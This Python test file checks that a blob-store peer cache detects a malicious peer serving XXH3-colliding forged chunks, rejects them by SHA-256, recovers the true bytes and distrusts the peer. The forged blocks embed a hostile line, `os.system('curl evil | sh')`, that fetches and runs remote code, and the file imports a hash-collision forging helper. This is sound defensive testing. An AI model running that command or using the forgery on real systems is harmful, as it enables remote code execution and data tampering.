"""A reader who runs a "cache" of its own serves forged pieces: blocks solved so that their
XXH3 chunk digest and the blob's XXH3 digest still match. Peers' pieces are checked against
the SHA-256 the masters computed from their own bytes, so the victim ends with the true bytes,
fetched elsewhere, and distrusts the liar."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

from support.harness import client_for, md, stub
from xxh3_forgery import BLOCK, forge_block

from blobha.cache import BlobCache
from blobha.cache.peers.fetch import Totals
from blobha.cache.peers.node import distrusted_peers
from blobha.cache.peers.server import PeerServer, Served
from blobha.cache.peers.settings import PeerSettings
from blobha.core.digest import chunk_digest, digest_bytes
from blobha.ops.localcluster import LocalCluster
from blobha.v1 import blobha_pb2 as pb

MiB = 1024 * 1024
SIZE = 4 * MiB


def _forge_every_piece(data: bytes, chunk: int) -> bytes:
    """``data`` with its second 1 KiB block of every chunk replaced by the attacker's bytes,
    every XXH3 digest unchanged."""
    out = bytearray(data)
    for start in range(0, len(data), chunk):
        true_block = data[start + BLOCK:start + 2 * BLOCK]
        out[start + BLOCK:start + 2 * BLOCK] = forge_block(
            true_block, b"import os; os.system('curl evil | sh')  # " * 16, seed=start)
    return bytes(out)


def test_a_reader_serving_forged_pieces_is_caught_and_the_true_bytes_installed(
        cluster: LocalCluster, tmp_path: Path) -> None:
    key = f"forged-pieces-{os.getpid()}"
    data = os.urandom(SIZE)
    with client_for(cluster, "alice") as alice:
        # mallory may READ the blob, as any reader of a shared blob may.
        alice.create(key, data, acl="u:alice:rwa,u:mallory:r", replication_factor=3)
        alice.wait_for_replication([key], min_replication=3, timeout=30)

    liar = PeerServer(PeerSettings(), "127.0.0.1")
    try:
        with client_for(cluster, "mallory") as mallory:
            plan = mallory.peer_plan(key, 0, liar.address, complete=True)
        forged = _forge_every_piece(data, plan.chunk_size)
        # The attack as it stands against XXH3: every digest a cache used to check matches.
        assert forged != data
        assert digest_bytes(forged) == plan.digest
        assert [chunk_digest(forged[i:i + plan.chunk_size])
                for i in range(0, SIZE, plan.chunk_size)] == list(plan.chunk_digests)
        (tmp_path / "forged").write_bytes(forged)
        liar.offer(Served(key, plan.version, plan.size, plan.chunk_size, plan.serve_key,
                          tmp_path / "forged", None))

        bad_before = Totals.bad_pieces
        with BlobCache(tmp_path / "victim", cluster.cluster, user="alice", peers=True) as cache:
            got = cache.get(key).path.read_bytes()
        served = sum(s.served_bytes for s in liar.served())
        assert served > 0, "the victim never asked the liar: the attack was not tried"
        assert got == data
        assert Totals.bad_pieces > bad_before
        assert liar.address in distrusted_peers()

        # A second node's cache in this process asks the liar for nothing.
        with BlobCache(tmp_path / "second", cluster.cluster, user="alice", peers=True) as cache:
            assert cache.get(key).path.read_bytes() == data
        assert sum(s.served_bytes for s in liar.served()) == served
    finally:
        liar.stop()


def test_every_master_plans_with_the_sha256_of_its_own_bytes(cluster: LocalCluster) -> None:
    key = f"plan-sha256-{os.getpid()}"
    data = os.urandom(2 * MiB + 5)
    with client_for(cluster, "alice") as alice:
        alice.create(key, data, acl="u:alice:rwa", replication_factor=3)
        alice.wait_for_replication([key], min_replication=3, timeout=30)
    expected = [hashlib.sha256(data[i:i + MiB]).digest() for i in range(0, len(data), MiB)]
    for m in cluster.masters:
        answer = stub(m.address).PeerPlan(pb.PeerPlanRequest(key=key), metadata=md("alice"),
                                          timeout=30)
        assert answer.chunk_size == MiB
        assert list(answer.chunk_sha256) == expected, m.address
